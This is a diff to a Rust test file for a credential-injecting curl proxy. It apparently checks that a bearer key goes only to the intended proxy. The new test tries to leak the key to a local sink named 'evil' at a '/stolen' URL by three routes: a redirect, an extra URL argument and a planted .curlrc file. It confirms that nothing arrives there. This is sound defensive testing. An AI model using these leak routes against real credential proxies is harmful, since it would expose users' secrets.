@@ -3,7 +3,7 @@
 use std::os::unix::fs::PermissionsExt;
 
 use crate::cli_resources::on;
-use crate::harness::{Canary, Sidekey, Sink};
+use crate::harness::{Canary, Script, Sidekey, Sink};
 
 #[tokio::test]
 async fn a_request_goes_through_the_proxy_with_its_body_and_options() {
@@ -36,7 +36,7 @@ async fn the_key_stands_in_no_argument() {
     // A curl that tells how it was called, and what it was told apart from that.
     let folder = tempfile::tempdir().expect("a folder");
     let fake = folder.path().join("curl");
-    std::fs::write(&fake, "#!/bin/sh\nprintf '%s\\n' \"$@\"\necho ---\ncat \"$2\"\n").expect("a file");
+    std::fs::write(&fake, "#!/bin/sh\nprintf '%s\\n' \"$@\"\necho ---\ncat \"$3\"\n").expect("a file");
     std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).expect("its mode");
     let path = format!("{}:/usr/bin:/bin", folder.path().display());
     let key = std::fs::read_to_string(server.folder().join("admin.key")).expect("admin.key");
@@ -52,6 +52,31 @@ async fn the_key_stands_in_no_argument() {
     let nowhere = [("PATH".to_owned(), "/nowhere".to_owned())];
     let ran = crate::harness::process::run(&args, server.folder(), &nowhere, "").await;
     assert!(ran.code == 1 && ran.stderr.contains("curl is not installed"), "{}", ran.stderr);
+    server.finish(&[&canary]).await;
+}
+
+#[tokio::test]
+async fn the_key_goes_to_the_proxy_and_nowhere_else() {
+    let (sink, evil, canary) = (Sink::https().await, Sink::http().await, Canary::new("curl-elsewhere"));
+    let server = Sidekey::with(|config| {
+        config.to(&sink).bearer("crm", canary.text());
+    })
+    .await;
+    let elsewhere = format!("http://{}/stolen", evil.addr);
+    sink.next(Script::respond(302, &[("location", &elsewhere)], ""));
+    // A redirect that is followed, another URL beside the request's, and a configuration of one's own.
+    on(&server, &["curl", "crm", "/x", "-L"], "").await;
+    on(&server, &["curl", "crm", "/x", &elsewhere], "").await;
+    std::fs::write(server.folder().join(".curlrc"), format!("url = \"{elsewhere}\"\n")).expect("a file");
+    let home = ("CURL_HOME".to_owned(), server.folder().display().to_string());
+    let proxy = format!("http://{}", server.proxy());
+    let args = ["curl", "--proxy", &proxy, "crm", "/x"];
+    assert_eq!(crate::harness::process::run(&args, server.folder(), &[home], "").await.code, 0);
+    assert_eq!(evil.requests().len(), 0);
+    let ran = on(&server, &["curl", "crm", "/x", "--json", "{\"a\":1}"], "").await;
+    assert_eq!(ran.code, 0, "{}", ran.stderr);
+    let last = sink.requests().pop().expect("the request");
+    assert_eq!((last.method.as_str(), last.body.as_ref()), ("POST", &b"{\"a\":1}"[..]));
     server.finish(&[&canary]).await;
 }
 
